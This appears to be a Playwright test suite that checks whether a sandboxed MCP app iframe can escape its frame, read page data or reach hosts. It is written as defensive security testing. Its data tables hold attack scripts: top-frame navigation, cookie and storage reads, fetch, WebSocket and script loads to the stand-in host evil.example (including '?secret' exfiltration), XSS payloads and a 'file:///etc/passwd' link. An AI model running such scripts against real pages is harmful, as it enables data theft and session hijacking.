"""An app tries to leave its frame: to navigate the page, to read it, to reach the hub or other hosts, to call and read
what is not of its own server.

The app is that of a server of the hub, in the browser of the operator, and may run any script in its frame.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from playwright.sync_api import Browser, Frame, Response, expect, sync_playwright

from tests.browser.tabs import BOUND, Tab, Trial, launched
from tests.serving.running import Hub, running

pytestmark = pytest.mark.browser
expect.set_options(timeout=BOUND)

HTML = "text/html;profile=mcp-app"
APP = """<!doctype html><title>An app</title><p>The app runs.</p><script>
window.ask = (method, params, to = parent) => new Promise((resolve) => {
  const id = `${method}-${Math.random()}`;
  addEventListener("message", ({ data }) => { if (data?.id === id && !data.method) resolve(data); });
  setTimeout(() => resolve({ result: "no answer" }), BOUND);
  to.postMessage({ jsonrpc: "2.0", id, method, params }, "*");
});
ask("ui/initialize", { appInfo: { name: "a", version: "1" }, appCapabilities: {}, protocolVersion: "2026-01-26" })
  .then(() => parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/initialized" }, "*"));
</script>""".replace("BOUND", str(BOUND))

DEFINITION = '''"""A server with an app."""


def show() -> str:
    """Show the app."""
    return "{name}"


def refresh() -> str:
    """A tool for the app."""
    return "{name} again"


def secret() -> str:
    """A tool for the model."""
    return "the secret of {name}"
'''

ESCAPES = {
    "navigate the page": "top.location = 'https://evil.example/'",
    "navigate the page by a link": "document.body.append(Object.assign(document.createElement('a'), "
    "{ href: 'https://evil.example/', target: '_top' })); document.querySelector('a').click()",
    "navigate the frame around it": "parent.location = 'https://evil.example/'",
    "open a window": "if (open('https://evil.example/')) throw new Error('opened')",
    "send a form to the page": "document.body.append(Object.assign(document.createElement('form'), "
    "{ action: 'https://evil.example/', target: '_top' })); document.querySelector('form').submit()",
    "ask a question of the page": "alert('your password?')",
}

READS = {
    "the page": "top.document.body.textContent",
    "the address of the page": "top.location.href",
    "the frame around it": "parent.document.body",
    "its place in the page": "if (frameElement) throw new Error('SecurityError'); frameElement.outerHTML",
    "cookies": "document.cookie",
    "stored values": "localStorage.length",
    "values of the session": "sessionStorage.length",
    "databases": "new Promise((ok, no) => { Object.assign(indexedDB.open('a'), { onsuccess: ok, onerror: no }); })",
    "caches": "caches.keys()",
}

REACHES = {
    "a page of the hub": "fetch('HUB/servers.json')",
    "a page of the hub without reading": "fetch('HUB/servers.json', { mode: 'no-cors' })",
    "the endpoint of the hub": "fetch('HUB/mcp', { method: 'POST', body: '{}' })",
    "another host": "fetch('https://evil.example/?secret')",
    "a beacon": "if (navigator.sendBeacon('HUB/mcp', '{}')) await new Promise((_, no) => "
    "addEventListener('securitypolicyviolation', no))",
    "a stream": "await new Promise((ok, no) => "
    "Object.assign(new EventSource('HUB/activity/events'), { onopen: ok, onerror: no }))",
    "a socket": "await new Promise((ok, no) => "
    "Object.assign(new WebSocket('ws://evil.example/'), { onopen: ok, onerror: no }))",
    "a picture": "await new Promise((ok, no) => "
    "Object.assign(new Image(), { onload: ok, onerror: no, src: 'HUB/static/icon.svg' }))",
    "a script of the hub": "await new Promise((ok, no) => document.head.append(Object.assign("
    "document.createElement('script'), { onload: ok, onerror: no, src: 'HUB/static/copy.js' })))",
    "a script of another host": "await new Promise((ok, no) => document.head.append(Object.assign("
    "document.createElement('script'), { onload: ok, onerror: no, src: 'https://evil.example/a.js' })))",
    "compiled text": "await ask('ping', {}); eval('1')",
}


def configuration(name: str) -> str:
    """The configuration of a server with an app that declares the hub as its own host."""
    csp = {"connectDomains": ["http://127.0.0.1", "http://127.0.0.1:*", "http://localhost:*"], "resourceDomains": ["*"]}
    card = {"uri": "ui://card/view.html", "name": "card", "mimeType": HTML, "text": APP, "_meta": {"ui": {"csp": csp}}}
    tools: dict[str, Any] = {
        "show": {"_meta": {"ui": {"resourceUri": "ui://card/view.html"}}},
        "refresh": {"_meta": {"ui": {"visibility": ["app"]}}},
        "secret": {"_meta": {"ui": {"visibility": ["model"]}}},
    }
    notes = {"uri": f"notes://{name}", "name": "notes", "text": f"notes of {name}"}
    return json.dumps({"tools": tools, "resources": {"card": card, "notes": notes}})


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hub]:
    """A hub with the server of the app, `left`, and another with the same names, `right`."""
    folder = tmp_path_factory.mktemp("apps")
    (folder / "servers").mkdir()
    for name in ("left", "right"):
        (folder / "servers" / f"{name}.py").write_text(DEFINITION.format(name=name))
        (folder / "servers" / f"{name}.mcp.json").write_text(configuration(name))
    with running(folder) as hub:
        yield hub
        assert hub.end() == 0


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = launched(playwright)
        yield browser
        browser.close()


class Shown:
    """A running app: the tab of the operator, the form of its tool, and the document of the app."""

    def __init__(self, tab: Tab) -> None:
        self.tab = tab
        self.trial: Trial = tab.item("left", "show")
        self.trial.call()
        self.state = self.trial.item.locator(".app .state")
        expect(self.state).to_have_text("Running")
        self.document: Frame = next(each for each in tab.page.frames if each.url == "about:srcdoc")
        self.address = tab.page.url
        self.answered: list[str] = []
        tab.page.on("response", self._record)

    def _record(self, response: Response) -> None:
        self.answered.append(response.url)

    def script_faults(self) -> list[str]:
        """The faults of the page, without those that Chromium writes to its console about what it refused."""
        return [fault for fault in self.tab.faults if not fault.startswith("console: ")]

    def run(self, script: str) -> str:
        """Run a script as the app; return the name of its error, empty when it has none."""
        body = script.replace("HUB", self.tab.base)
        error: str = self.document.evaluate(
            f"async () => {{ try {{ await (async () => {{ {body} }})(); return ''; }}"
            " catch (problem) { return problem?.name || problem?.type || String(problem); } }"
        )
        return error

    def ask(self, method: str, params: dict[str, Any]) -> dict[str, Any]:
        """Send a request as the app; return the answer."""
        answer: dict[str, Any] = self.document.evaluate("([method, params]) => ask(method, params)", [method, params])
        return answer


@contextmanager
def running_app(browser: Browser, attacked: Hub) -> Iterator[Shown]:
    """An app that runs in a tab of its own."""
    tab = Tab(browser, f"http://127.0.0.1:{attacked.port}", viewport={"width": 1280, "height": 900}).log_in(attacked)
    tab.context.route("**/evil.example/**", lambda route: route.fulfill(body="evil"))
    yield Shown(tab)
    tab.context.close()


@pytest.fixture(scope="module")
def one_app(browser: Browser, attacked: Hub) -> Iterator[Shown]:
    with running_app(browser, attacked) as app:
        yield app


@pytest.fixture
def shown(one_app: Shown) -> Iterator[Shown]:
    """The app of all attacks that leave it as it is: it still runs, in the same page, after each of them."""
    one_app.answered.clear()
    yield one_app
    expect(one_app.state).to_have_text("Running")
    assert one_app.tab.page.url == one_app.address and len(one_app.tab.context.pages) == 1
    assert one_app.script_faults() == []


@pytest.fixture
def own_app(browser: Browser, attacked: Hub) -> Iterator[Shown]:
    """An app for one attack that changes it."""
    with running_app(browser, attacked) as app:
        yield app
    assert app.script_faults() == []


@pytest.mark.parametrize("script", ESCAPES.values(), ids=ESCAPES.keys())
def test_an_app_navigates_and_opens_nothing(shown: Shown, script: str) -> None:
    """37.2."""
    shown.run(script)
    assert shown.run("await ask('ping', {})") == ""
    assert shown.tab.page.url == shown.address and len(shown.tab.context.pages) == 1
    assert shown.answered == []


@pytest.mark.parametrize("script", READS.values(), ids=READS.keys())
def test_an_app_reads_nothing_of_the_page_and_of_the_browser(shown: Shown, script: str) -> None:
    """37.2."""
    assert shown.run(f"return {script}" if not script.startswith("if") else script) in (
        "SecurityError",
        "TypeError",
        "Error",
    )


@pytest.mark.parametrize("script", REACHES.values(), ids=REACHES.keys())
def test_an_app_reaches_neither_the_hub_nor_hosts_that_it_did_not_declare(shown: Shown, script: str) -> None:
    """37.2: this app declares the hub itself, and every host at once."""
    assert shown.run(script if script.startswith(("await", "if")) else f"await {script}") != ""
    assert shown.answered == []


@pytest.mark.parametrize("address", ["https://evil.example/?secret", "/servers", "HUB/mcp", "data:text/html,evil"])
def test_an_app_that_navigates_itself_is_closed(own_app: Shown, address: str) -> None:
    """37.2."""
    own_app.document.evaluate("(address) => { location = address; }", address.replace("HUB", own_app.tab.base))
    expect(own_app.state).to_have_text("The app left its page, so it was closed.")
    expect(own_app.trial.item.locator(".app-frame iframe")).to_have_count(0)
    assert own_app.answered == []


@pytest.mark.parametrize("name", ["secret", "right__refresh", "right.refresh", "right_show", "echo", "nothing"])
def test_an_app_calls_no_tool_for_models_and_none_of_another_server(shown: Shown, name: str) -> None:
    """37.2."""
    answer = shown.ask("tools/call", {"name": name, "arguments": {}})
    assert "error" in answer or answer["result"]["isError"], answer
    called = shown.ask("tools/call", {"name": "refresh", "arguments": {}})
    assert called["result"]["content"][0]["text"] == "left again"


@pytest.mark.parametrize("uri", ["ui://right/card/view.html", "notes://right", "server://right", "variable://access"])
def test_an_app_reads_no_resource_of_another_server(shown: Shown, uri: str) -> None:
    """37.2."""
    assert "error" in shown.ask("resources/read", {"uri": uri})
    read = shown.ask("resources/read", {"uri": "notes://left"})
    assert read["result"]["contents"][0]["text"] == "notes of left"


def test_an_app_cannot_say_that_it_is_another_app(shown: Shown) -> None:
    """37.2."""
    meta = {"io.patchbay/app": "ui://right/card/view.html", "io.modelcontextprotocol/clientCapabilities": {}}
    called = shown.ask("tools/call", {"name": "secret", "arguments": {}, "_meta": meta})
    assert called["result"]["isError"]


@pytest.mark.parametrize(
    "method", ["tools/list", "initialize", "sampling/createMessage", "completion/complete", "constructor"]
)
def test_an_app_uses_no_other_method(shown: Shown, method: str) -> None:
    """37.2."""
    assert shown.ask(method, {})["error"]["code"] == -32601


def test_messages_past_the_frame_and_messages_of_the_frame_itself_are_ignored(own_app: Shown) -> None:
    """37.2: an app writes to the page, and plays the part of the frame around it."""
    before = own_app.trial.item.locator(".app .wire li").count()
    call = {"jsonrpc": "2.0", "id": "past", "method": "tools/call", "params": {"name": "refresh"}}
    ready = {"jsonrpc": "2.0", "method": "ui/notifications/sandbox-resource-ready", "params": {"html": "<p>other"}}
    left = {"jsonrpc": "2.0", "method": "ui/notifications/sandbox-left", "params": {}}
    own_app.document.evaluate(
        "(messages) => messages.forEach((each) => { top.postMessage(each, '*'); })", [call, ready, left]
    )
    own_app.document.evaluate("(messages) => messages.forEach((each) => parent.postMessage(each, '*'))", [ready, left])
    own_app.ask("ping", {})
    expect(own_app.state).to_have_text("Running")
    expect(own_app.trial.item.locator(".app .wire li")).to_have_count(before + 2)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,a", "file:///etc/passwd", "/servers", "", None])
def test_an_app_opens_no_link_but_one_of_the_web(shown: Shown, url: Any) -> None:
    """37.2."""
    assert "error" in shown.ask("ui/open-link", {"url": url})
    assert shown.trial.item.get_by_role("group", name="A link of the app").count() == 0


def test_what_an_app_says_becomes_no_markup(own_app: Shown) -> None:
    """37.2."""
    said = "<img src=x onerror=alert(1)><script>alert(2)</script>"
    content = [{"type": "text", "text": said}, {"type": "resource_link", "uri": "javascript:alert(3)", "name": said}]
    assert own_app.ask("ui/message", {"role": "user", "content": content})["result"] == {}
    assert (
        own_app.ask("ui/update-model-context", {"content": content, "structuredContent": {said: said}})["result"] == {}
    )
    expect(own_app.trial.item.locator(".app .ran").get_by_text(said).first).to_be_visible()
    assert own_app.trial.item.locator(".app .ran").locator("img, script, a[href^=javascript]").count() == 0
    assert not [fault for fault in own_app.tab.faults if fault.startswith("dialog")]


def test_a_frame_opened_alone_has_no_origin_of_the_hub(own_app: Shown) -> None:
    """37.2."""
    page = own_app.tab.open("/render/app?csp=%7B%7D")
    assert page.evaluate("self.origin") == "null"
